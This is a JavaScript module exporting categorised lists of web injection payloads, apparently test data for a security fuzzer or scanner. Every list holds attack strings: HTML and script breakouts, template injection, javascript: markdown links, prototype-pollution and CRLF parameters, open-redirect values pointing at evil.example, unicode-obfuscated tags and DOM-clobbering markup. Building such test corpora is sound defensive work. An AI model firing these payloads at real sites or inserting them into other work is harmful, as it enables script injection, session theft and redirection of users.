/** What breaks out of a language other than HTML, or changes what the page's own code relies on. */
const breakouts = [
  `"><script>CALL</script>`,
  `'><script>CALL</script>`,
  `"><img src=x onerror=CALL>`,
  `'><img src=x onerror=CALL>`,
  `\`><img src=x onerror=CALL>`,
  `" onmouseover="CALL" x="`,
  `' onmouseover='CALL' x='`,
  `" autofocus onfocus="CALL" tabindex="0`,
  `x onerror=CALL `,
  `javascript:CALL`,
  `" style="animation:x" onanimationstart="CALL`,
  `</title><script>CALL</script>`,
  `</textarea><script>CALL</script>`,
  `</style><script>CALL</script>`,
  `</noscript><script>CALL</script>`,
  `</template><script>CALL</script>`,
  `--><script>CALL</script>`,
  `]]><script>CALL</script>`,
  `%22%3E%3Cscript%3ECALL%3C/script%3E`,
  `%253Cscript%253ECALL%253C/script%253E`,
  `&lt;script&gt;CALL&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;`,
  `\\x3cscript\\x3eCALL\\x3c/script\\x3e`,
  `\\u003cscript\\u003eCALL\\u003c/script\\u003e`,
];

const data = [
  `</script><script>CALL</script>`,
  `"}</script><script>CALL</script>`,
  `\\"}</script><img src=x onerror=CALL>`,
  `</ScRiPt ><svg onload=CALL>`,
  `<!--<script>`,
  `<!--<script></script><img src=x onerror=CALL>-->`,
  `";CALL;//`,
  `';CALL;//`,
  `\\";CALL;//`,
  `\\';CALL;//`,
  `\`;CALL;//`,
  `*/CALL/*`,
  `\nCALL\n`,
  `\u2028CALL\u2029`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=CALL>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=CALL>"}}`,
  `{"$$typeof":"react.element","type":"script","props":{"children":"CALL"}}`,
];

const templating = [
  "${CALL}",
  "`${CALL}`",
  "#{CALL}",
  "{{CALL}}",
  "{{constructor.constructor('CALL')()}}",
  "[[${CALL}]]",
  "<%= CALL %>",
  "{%raw%}{{CALL}}",
  "{CALL}",
  "$eval('CALL')",
  `<p v-html="'<img src=x onerror=CALL>'" ng-app ng-init="CALL" x-data="CALL" hx-on:load="CALL">x</p>`,
  `<p data-bind="CALL" data-action="click->CALL">x</p>`,
];

const markdown = [
  "[x](javascript:CALL)",
  "[x](JavaScript&colon;CALL)",
  `![x](x"onerror="CALL)`,
  `![x](x){onerror=CALL}`,
  "<javascript:CALL>",
  `[x]: javascript:CALL "y"`,
  "[x](data:text/html,<script>CALL</script>)",
  "```<img src=x onerror=CALL>```",
  "[<img src=x onerror=CALL>](x)",
  "https://evil.example/?<script>CALL</script>",
];

const parameters = [
  "__proto__[innerHTML]=<img src=x onerror=CALL>",
  "__proto__",
  "constructor",
  "constructor[prototype][src]=data:,CALL",
  "constructor.prototype.onload=CALL",
  "prototype",
  "hasOwnProperty",
  "toString",
  "../../<script>CALL</script>",
  "..%2f..%2f<img src=x onerror=CALL>",
  "//evil.example/%2f..",
  "/\\evil.example",
  "https:evil.example",
  "#<img src=x onerror=CALL>",
  "?q=<img src=x onerror=CALL>",
  "javascript:CALL#x",
  "%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>CALL</script>",
  "access_token=CALL&type=recovery",
];

const unicode = [
  "＜script＞CALL＜/script＞",
  "﹤script﹥CALL﹤/script﹥",
  "‹script›CALL‹/script›",
  "%C0%BCscript%C0%BECALL%C0%BC/script%C0%BE",
  "%E0%80%BCimg src=x onerror=CALL%E0%80%BE",
  "+ADw-script+AD4-CALL+ADw-/script+AD4-",
  "<\u200bscript>CALL</script>",
  "<scr\u00adipt>CALL</script>",
  "<ſcript>CALL</ſcript>",
  "<ıframe src=javascript:CALL>",
  "<img src=x on\u200berror=CALL>",
  "<img src=x onerror\u00a0=CALL>",
  "<img\u3000src=x onerror=CALL>",
  "<img src=x \u2028onerror=CALL>",
  "\ufeff<script>CALL</script>",
  "\u202e<tpircs>CALL<script>",
  "<svg\u000bonload=CALL>",
  "<a href=\u0010javascript:CALL>x</a>",
  "<\ud83d\ude00 onclick=CALL>x",
  "<K onclick=CALL>x",
];

const names =
  "body head cookie forms location defaultView documentElement getElementById createElement querySelector addEventListener activeElement currentScript implementation root __proto__ constructor attributes parentNode nodeName childNodes innerHTML ownerDocument".split(
    " ",
  );

const clobbering = [
  ...names.map((name) => `<p id="${name}">x</p>`),
  ...names.slice(0, 10).map((name) => `<img name="${name}">`),
  ...names
    .slice(10)
    .map((name) => `<form><input name="${name}"><button onclick=CALL>x</button></form>`),
  `<a id=config><a id=config name=url href="javascript:CALL">`,
  `<form id=x><output id=y>z</output></form>`,
  `<iframe name=self srcdoc="<a id=x>"></iframe>`,
  `<object id=document></object>`,
  `<svg><a id=location href="javascript:CALL"/></svg>`,
  `<div is=custom-x slot=x part=x id=root>x</div>`,
  `<p id=comments>x</p><a href="#comments">x</a>`,
];

export const textPayloads = {
  breakout: breakouts,
  data,
  templating,
  markdown,
  parameter: parameters,
  unicode,
  clobbering,
};
